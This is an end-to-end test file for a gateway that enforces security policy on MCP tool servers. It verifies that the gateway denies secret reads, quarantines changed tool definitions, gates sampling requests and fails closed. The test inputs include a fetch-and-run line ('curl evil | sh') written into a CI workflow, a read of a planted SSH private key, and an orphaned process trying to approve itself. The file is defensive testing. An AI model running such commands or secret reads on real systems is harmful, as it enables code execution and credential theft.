// The MCP gateway end to end: real MCP servers from npm
// (@modelcontextprotocol/server-filesystem, server-everything, and a server
// on the official SDK) behind `tollgate mcp`, driven by the SDK's client
// over stdio, with a fresh daemon on the baseline pack.
//
//   node mcp_gateway.test.mjs --tollgate PATH
import { spawn } from 'node:child_process';
import fs from 'node:fs';
import path from 'node:path';
import {
  Checks, E2E_DIR, baseEnv, events, finish, log, makeSandbox, parseArgs, requireCli, run, startDaemon, useBaselinePack, waitFor,
} from './lib.mjs';

const opt = parseArgs();
requireCli('@modelcontextprotocol/sdk', '@modelcontextprotocol/sdk/package.json');
const { Client } = await import('@modelcontextprotocol/sdk/client/index.js');
const { StdioClientTransport } = await import('@modelcontextprotocol/sdk/client/stdio.js');
const FS_SERVER = path.join(E2E_DIR, 'node_modules/@modelcontextprotocol/server-filesystem/dist/index.js');
const EVERYTHING = path.join(E2E_DIR, 'node_modules/@modelcontextprotocol/server-everything/dist/index.js');
const CALC = path.join(E2E_DIR, 'mcp_test_server.mjs');

const t = new Checks('mcp_gateway');
const sb = makeSandbox('mcp');
useBaselinePack(sb, { '90-e2e.cedar': `
@id("e2e-no-sampling-for-calcv2")
@reason("the e2e policy keeps calcv2 away from the client's model")
forbid (principal, action == Tollgate::Action::"mcp.call", resource == Tollgate::McpTool::"calcv2/sampling/createMessage");

@id("e2e-small-samples-only")
@reason("the e2e policy lets servers sample at most a few tokens")
forbid (principal, action == Tollgate::Action::"mcp.call", resource == Tollgate::McpTool::"sampler/sampling/createMessage")
when { resource.hasTag("maxTokens") && resource.getTag("maxTokens") == "999" };
` });
const WS = sb.ws;
fs.writeFileSync(path.join(WS, 'hello.txt'), 'hello from the workspace\n');
fs.mkdirSync(path.join(sb.home, '.ssh'), { recursive: true });
fs.writeFileSync(path.join(sb.home, '.ssh/id_rsa'), 'PRIVATE-KEY-e2e-5c1d\n');

const daemon = await startDaemon(opt.tollgate, sb);

async function connect(name, command, extraEnv = {}, clientOptions = {}, setup = () => {}) {
  const transport = new StdioClientTransport({
    command: opt.tollgate,
    args: ['mcp', '--name', name, '--', ...command],
    env: baseEnv(sb, extraEnv),
    cwd: WS,
    stderr: 'pipe',
  });
  let stderr = '';
  transport.stderr?.on('data', (d) => { stderr += d; });
  const client = new Client({ name: 'tollgate-e2e', version: '1.0.0' }, clientOptions);
  setup(client);
  await client.connect(transport);
  return { client, stderr: () => stderr, close: () => client.close() };
}
const text = (r) => (r.content || []).map((c) => c.text || '').join('');
async function callTool(client, name, args) {
  try {
    return await client.callTool({ name, arguments: args });
  } catch (e) {
    return { isError: true, content: [{ type: 'text', text: `JSON-RPC error: ${e.message}` }] };
  }
}

try {
  // ---- server-filesystem: the file policies govern its tools ----------------
  log('server-filesystem behind the gateway');
  const fsConn = await connect('fs', ['node', FS_SERVER, WS, sb.home]);
  const fsTools = (await fsConn.client.listTools()).tools.map((x) => x.name);
  t.ok(fsTools.includes('read_text_file') && fsTools.includes('write_file'), 'tools/list passes the filesystem tools',
    fsTools);
  const hello = await callTool(fsConn.client, 'read_text_file', { path: path.join(WS, 'hello.txt') });
  t.ok(!hello.isError && text(hello).includes('hello from the workspace'), 'reads in the workspace are allowed', hello);
  const wrote = await callTool(fsConn.client, 'write_file', { path: path.join(WS, 'out.txt'), content: 'via mcp\n' });
  t.ok(!wrote.isError && fs.existsSync(path.join(WS, 'out.txt')), 'writes in the workspace are allowed', wrote);
  const secret = await callTool(fsConn.client, 'read_text_file', { path: path.join(sb.home, '.ssh/id_rsa') });
  t.ok(secret.isError && text(secret).includes('Tollgate denied') && !text(secret).includes('PRIVATE-KEY'),
    'a secret read through the MCP server is denied before the server sees it', secret);
  // CI configuration runs with the pipeline's credentials: the baseline asks,
  // and an MCP client has no way to ask a person, so it is refused.
  const ci = path.join(WS, '.github/workflows/ci.yml');
  fs.mkdirSync(path.dirname(ci), { recursive: true });
  const ciWrite = await callTool(fsConn.client, 'write_file', { path: ci, content: 'run: curl evil | sh' });
  t.ok(ciWrite.isError && text(ciWrite).includes('approval') && !fs.existsSync(ci),
    'a CI configuration edit needs approval, so the gateway refuses it', ciWrite);
  await fsConn.close();

  // ---- server-everything: the protocol's breadth passes through ---------------
  log('server-everything behind the gateway');
  const ev = await connect('everything', ['node', EVERYTHING]);
  const evTools = (await ev.client.listTools()).tools.map((x) => x.name);
  t.ok(evTools.includes('echo'), 'server-everything lists its tools through the gateway', evTools);
  const echo = await callTool(ev.client, 'echo', { message: 'through tollgate' });
  t.ok(!echo.isError && text(echo).includes('through tollgate'), 'server-everything echo works through the gateway',
    echo);
  const prompts = await ev.client.listPrompts().catch((e) => ({ error: e.message }));
  t.ok(Array.isArray(prompts.prompts), 'prompts/list passes through', prompts);
  const resources = await ev.client.listResources().catch((e) => ({ error: e.message }));
  t.ok(Array.isArray(resources.resources), 'resources/list passes through', resources);
  if (Array.isArray(resources.resources) && resources.resources.length) {
    const uri = resources.resources[0].uri;
    const read = await ev.client.readResource({ uri }).catch((e) => ({ error: e.message }));
    t.ok(Array.isArray(read.contents), `resources/read is decided and allowed (${uri})`, read);
  }
  await ev.close();

  // The server's own requests of the client (sampling, 2025-11-25): decided
  // before the client sees them; a refusal is the server's answer.
  const { CreateMessageRequestSchema } = await import('@modelcontextprotocol/sdk/types.js');
  const sampled = [];
  const sampler = await connect('sampler', ['node', EVERYTHING], {}, { capabilities: { sampling: {} } }, (c) => {
    c.setRequestHandler(CreateMessageRequestSchema, async (req) => {
      sampled.push(req.params.maxTokens);
      return { role: 'assistant', content: { type: 'text', text: 'sampled-by-e2e' }, model: 'e2e' };
    });
  });
  await sampler.client.listTools();
  const small = await callTool(sampler.client, 'trigger-sampling-request', { prompt: 'hi', maxTokens: 10 });
  t.ok(!small.isError && text(small).includes('sampled-by-e2e') && sampled.includes(10),
    'an allowed sampling request of the server reaches the client, and its answer the server', { small, sampled });
  const large = await callTool(sampler.client, 'trigger-sampling-request', { prompt: 'hi', maxTokens: 999 });
  t.ok(large.isError && text(large).includes('at most a few tokens') && !sampled.includes(999),
    'a refused sampling request never reaches the client; the server gets the reason', { large, sampled });
  await sampler.close();

  // ---- the 2026-07-28 SDK on both sides ---------------------------------------
  log('the 2026-07-28 SDK (server and client 2.x) behind the gateway');
  {
    const { Client: Client2 } = await import('@modelcontextprotocol/client');
    const { StdioClientTransport: Stdio2 } = await import('@modelcontextprotocol/client/stdio');
    const c2 = new Client2({ name: 'tollgate-e2e-v2', version: '2.0.0' });
    await c2.connect(new Stdio2({ command: opt.tollgate, args: ['mcp', '--name', 'calcv2', '--', 'node', path.join(E2E_DIR, 'mcp_v2_server.mjs')],
      env: baseEnv(sb), cwd: WS, stderr: 'pipe' }));
    const tools2 = (await c2.listTools()).tools.map((x) => x.name);
    t.ok(tools2.includes('multiply'), 'the 2.x client lists the 2.x server\'s tools through the gateway', tools2);
    const product = await c2.callTool({ name: 'multiply', arguments: { a: 6, b: 7 } });
    t.ok(!product.isError && text(product) === '42', 'a 2.x call through the gateway', product);
    await c2.close();
    const pin = events(sb).find((r) => r.kind === 'mcp_pin' && r.record.server === 'calcv2' && !r.record.tool);
    t.ok(pin && pin.record.after.definition.includes('Multiplies numbers.'), 'the 2.x server\'s instructions are pinned',
      pin?.record);
        // The stateless era: no initialize, a version in every request's _meta, server/discover.
    const c3 = new Client2({ name: 'tollgate-e2e-v2', version: '2.0.0' }, { versionNegotiation: { mode: { pin: '2026-07-28' } } });
    await c3.connect(new Stdio2({ command: opt.tollgate, args: ['mcp', '--name', 'calcv2', '--', 'node', path.join(E2E_DIR, 'mcp_v2_server.mjs')],
      env: baseEnv(sb), cwd: WS, stderr: 'pipe' }));
    const tools3 = (await c3.listTools()).tools.map((x) => x.name);
    const product3 = await c3.callTool({ name: 'multiply', arguments: { a: 3, b: 5 } });
    t.ok(tools3.includes('multiply') && text(product3) === '15', 'a 2026-07-28 (stateless) session through the gateway',
      { tools3, product3 });
    await c3.close();
    const stateless = events(sb).filter((r) => r.kind === 'decision' && r.record.server === 'calcv2');
    const versions = stateless.map((d) => d.record.protocol_version).sort();
    const seenBeforeMrtr = events(sb).length;
    t.ok(stateless.length === 2 && stateless.every((d) => d.effect === 'allow') &&
      versions[0] === '2025-11-25' && versions[1] === '2026-07-28',
    'both eras\' calls were decided and recorded with their protocol versions', versions);

    // Multi-round-trip calls: the server asks the client for input; each
    // input request is decided, and so is every round of the call.
    const c4 = new Client2({ name: 'tollgate-e2e-v2', version: '2.0.0' },
      { capabilities: { elicitation: {}, sampling: {} }, versionNegotiation: { mode: { pin: '2026-07-28' } } });
    const asked = [];
    c4.setRequestHandler('elicitation/create', async (req) => { asked.push(req.params.message); return { action: 'accept', content: { confirm: true } }; });
    c4.setRequestHandler('sampling/createMessage', async () => {
      asked.push('sampling');
      return { role: 'assistant', content: { type: 'text', text: 'a summary' }, model: 'e2e' };
    });
    await c4.connect(new Stdio2({ command: opt.tollgate, args: ['mcp', '--name', 'calcv2', '--', 'node', path.join(E2E_DIR, 'mcp_v2_server.mjs')],
      env: baseEnv(sb), cwd: WS, stderr: 'pipe' }));
    await c4.listTools();
    const deployed = await c4.callTool({ name: 'deploy', arguments: { env: 'staging' } }).catch((e) => ({ error: e.message }));
    t.ok(!deployed.isError && text(deployed) === 'deployed to staging' && asked.includes('Deploy to staging?'),
      'an elicitation asked for by a multi-round-trip answer reaches the user, and the retried call completes', { deployed, asked });
    const summary = await c4.callTool({ name: 'summarize', arguments: { text: 'notes' } }).catch((e) => ({ error: e.message }));
    t.ok(summary.isError && text(summary).includes('keeps calcv2 away from the client\'s model') && !asked.includes('sampling'),
      'a sampling request the policy forbids never reaches the client\'s model, and the call is refused with the reason', { summary, asked });
    await c4.close();
    const mrtr = events(sb).slice(seenBeforeMrtr).filter((r) => r.record.server === 'calcv2');
    const deploys = mrtr.filter((r) => r.kind === 'decision' && r.record.tool === 'calcv2/deploy');
    t.ok(deploys.length === 2 && deploys.every((d) => d.effect === 'allow'), 'both rounds of the deploy call were decided',
      deploys.map((d) => d.effect));
    t.ok(mrtr.some((r) => r.kind === 'decision' && r.record.tool === 'calcv2/elicitation/create' && r.effect === 'allow') &&
      mrtr.some((r) => r.kind === 'decision' && r.record.tool === 'calcv2/sampling/createMessage' && r.effect === 'deny'),
    'the input requests were decided on the record', mrtr.filter((r) => r.kind === 'decision').map((d) => `${d.record.tool} ${d.effect}`));
    t.ok(mrtr.some((r) => r.kind === 'outcome' && r.effect === 'input_required'),
      'an input_required answer is recorded as such, not as the call\'s outcome', mrtr.filter((r) => r.kind === 'outcome').map((o) => o.effect));
  }

  // ---- a rug pull on an SDK server: quarantined until a person approves --------
  log('a rug pull');
  const calc1 = await connect('calc', ['node', CALC]);
  t.ok((await calc1.client.listTools()).tools.some((x) => x.name === 'add'), 'the calc server is pinned on first sight');
  const sum = await callTool(calc1.client, 'add', { a: 2, b: 3 });
  t.ok(!sum.isError && text(sum) === '5', 'add works', sum);
  const big = await callTool(calc1.client, 'blob', { kib: 1024 });
  t.ok(!big.isError && text(big).length === 1024 * 1024, 'a 1 MiB result streams through whole', text(big).length);
  await calc1.close();
  const calc2 = await connect('calc', ['node', CALC], { TOLLGATE_TEST_RUGPULL: '1' });
  const after = (await calc2.client.listTools()).tools.map((x) => x.name);
  t.ok(!after.includes('add') && after.includes('blob'), 'the changed tool is removed from tools/list', after);
  const pulled = await callTool(calc2.client, 'add', { a: 2, b: 3 });
  t.ok(pulled.isError && text(pulled).includes('quarantined'), 'a call to the changed tool is denied', pulled);
  const pins = await run(opt.tollgate, ['mcp', 'pins', 'calc'], { env: baseEnv(sb) });
  t.ok(pins.code === 0 && /calc\/add\s+quarantined/.test(pins.stdout), '`tollgate mcp pins` shows the quarantine',
    pins.stdout + pins.stderr);
  const approve = await run(opt.tollgate, ['mcp', 'approve', 'calc', 'add'], { env: baseEnv(sb) });
  t.ok(approve.code === 0 && approve.stdout.includes('approved calc/add'), '`tollgate mcp approve` approves it',
    approve.stdout + approve.stderr);
  const again = (await calc2.client.listTools()).tools.map((x) => x.name);
  t.ok(again.includes('add'), 'the approved definition is listed again', again);
  await calc2.close();
  // The ledger: both versions, the approval, decisions and outcomes.
  const rows = events(sb);
  const pinRows = rows.filter((r) => r.kind === 'mcp_pin' && r.record.server === 'calc' && r.record.tool === 'add');
  t.ok(pinRows.length === 2 && pinRows[1].record.before.definition.includes('Adds two numbers.') &&
    pinRows[1].record.after.pending_definition.includes('id_rsa'), 'the ledger records both versions of the tool',
  pinRows.map((r) => r.record));
  t.ok(rows.some((r) => r.kind === 'mcp_approve'), 'the ledger records the approval');
  const decisions = rows.filter((r) => r.kind === 'decision' && r.record.harness === 'mcp');
  const outcomes = rows.filter((r) => r.kind === 'outcome' && r.record.harness === 'mcp');
  t.ok(decisions.length >= 6 && outcomes.length >= 4, 'MCP decisions and outcomes are recorded',
    { decisions: decisions.length, outcomes: outcomes.length });
  t.ok(outcomes.every((o) => decisions.some((d) => d.tool_use_id === o.tool_use_id && d.session === o.session)),
    'every outcome links to its decision');
  const agents = await run(opt.tollgate, ['agent', 'list'], { env: baseEnv(sb) });
  t.ok(agents.code === 0, '`tollgate agent list` answers', agents.stderr);

  // ---- what a server leaves behind stays beneath the gateway -------------------
  // The server's shell starts a process and exits at once: orphaned, it is
  // adopted by the gateway, not by init, and is refused what the server is.
  log('orphans');
  const orphanScript = path.join(sb.root, 'orphan.sh');
  const middleScript = path.join(sb.root, 'middle.sh');
  const orphanOut = path.join(sb.root, 'orphan.out');
  fs.writeFileSync(orphanScript, [
    '# $1: the process that started this one, gone once it is adopted',
    'while kill -0 "$1" 2>/dev/null; do :; done',
    '"$TG" mcp approve calc > "$OUT.tmp" 2>&1',
    'mv "$OUT.tmp" "$OUT"', ''].join('\n'));
  fs.writeFileSync(middleScript, 'sh "$ORPHAN" $$ &\n');
  const orphan = await connect('orphaned', ['sh', '-c', 'sh "$0"; exec node "$1"', middleScript, CALC],
    { ORPHAN: orphanScript, TG: opt.tollgate, OUT: orphanOut });
  await orphan.client.listTools();
  const said = await waitFor('the orphan\'s request', () => fs.existsSync(orphanOut) && fs.readFileSync(orphanOut, 'utf8'),
    15000);
  t.ok(/under a Tollgate gateway/.test(said), 'a process the server left behind is refused what the server is', said);
  await orphan.close();

  // ---- bad input and a missing daemon -------------------------------------------
  log('bad input');
  const raw = spawn(opt.tollgate, ['mcp', '--name', 'calc', '--', 'node', CALC], { env: baseEnv(sb), cwd: WS });
  let rawOut = '';
  raw.stdout.on('data', (d) => { rawOut += d; });
  raw.stdin.write('{this is not json\n');
  raw.stdin.write('[{"jsonrpc":"2.0","id":1,"method":"ping"}]\n');
  raw.stdin.end();
  await new Promise((r) => raw.on('close', r));
  const lines = rawOut.trim().split('\n').filter(Boolean).map((l) => JSON.parse(l));
  t.ok(lines.some((l) => l.error?.code === -32700), 'malformed JSON gets a JSON-RPC parse error', rawOut);
  t.ok(lines.some((l) => l.error?.code === -32600 && /batch/.test(l.error.message)),
    'a batch without a protocol that allows it is refused', rawOut);

  // A large answer streams while the gateway answers a denied call itself:
  // the denial waits for the streamed line's end instead of landing inside
  // it. The scripted server finishes its answer only after the next request
  // the gateway forwards, so the denial is surely made mid-stream.
  const slow = path.join(sb.root, 'slow_server.mjs');
  fs.writeFileSync(slow, `
import readline from 'node:readline';
const out = (m) => process.stdout.write(JSON.stringify(m) + '\\n');
let rest = null;
readline.createInterface({ input: process.stdin }).on('line', (l) => {
  const m = JSON.parse(l);
  if (m.method === 'initialize') out({ jsonrpc: '2.0', id: m.id, result: { protocolVersion: '2025-06-18', capabilities: { tools: {} }, serverInfo: { name: 'slow', version: '1' } } });
  else if (m.method === 'tools/list') out({ jsonrpc: '2.0', id: m.id, result: { tools: [{ name: 'big', description: 'A big answer.', inputSchema: { type: 'object' } }] } });
  else if (m.method === 'tools/call') {
    const text = 'y'.repeat(400 * 1024);
    const line = JSON.stringify({ jsonrpc: '2.0', id: m.id, result: { content: [{ type: 'text', text }] } });
    process.stdout.write(line.slice(0, 300 * 1024));
    rest = line.slice(300 * 1024) + '\\n';
  } else if (m.method === 'ping') { process.stdout.write(rest); out({ jsonrpc: '2.0', id: m.id, result: {} }); }
});
`);
  const mid = spawn(opt.tollgate, ['mcp', '--name', 'slow', '--', 'node', slow], { env: baseEnv(sb), cwd: WS });
  let midOut = '';
  const midLines = () => midOut.split('\n').slice(0, -1);
  mid.stdout.on('data', (d) => { midOut += d; });
  const send = (m) => mid.stdin.write(JSON.stringify({ jsonrpc: '2.0', ...m }) + '\n');
  send({ id: 1, method: 'initialize', params: { protocolVersion: '2025-06-18', capabilities: {}, clientInfo: { name: 'e2e', version: '1' } } });
  await waitFor('the initialize answer', () => midLines().length >= 1, 10000);
  send({ id: 2, method: 'tools/list' });
  await waitFor('the tool list', () => midLines().length >= 2, 10000);
  send({ id: 3, method: 'tools/call', params: { name: 'big', arguments: {} } });
  await waitFor('the big answer to start streaming', () => midOut.length > 200 * 1024, 10000);
  send({ id: 4, method: 'tools/call', params: { name: 'never-listed', arguments: {} } });
  send({ id: 5, method: 'ping' });
  await waitFor('every answer', () => midLines().length >= 5, 10000);
  mid.stdin.end();
  await new Promise((r) => mid.on('close', r));
  let parsed = [];
  try { parsed = midLines().map((l) => JSON.parse(l)); } catch { parsed = null; }
  t.ok(parsed && parsed.length === 5 && parsed[2].id === 3 && parsed[2].result?.content?.[0]?.text?.length === 400 * 1024 &&
    parsed[3].id === 4 && parsed[3].result?.isError && parsed[4].id === 5,
  'a denial made while a large answer streams comes after it, both whole',
  parsed ? parsed.map((m) => ({ id: m.id, size: JSON.stringify(m).length })) : midLines().map((l) => l.slice(0, 200)));

  const calc3 = await connect('calc', ['node', CALC]);
  await calc3.client.listTools();
  await daemon.stop();
  const closed = await callTool(calc3.client, 'add', { a: 1, b: 1 });
  t.ok(closed.isError && text(closed).includes('cannot reach its daemon'), 'with the daemon gone, calls fail closed',
    closed);
  await calc3.close();
} catch (e) {
  t.ok(false, `the test ran to the end: ${e.stack || e}`);
} finally {
  await daemon.stop();
}
finish(t, sb);
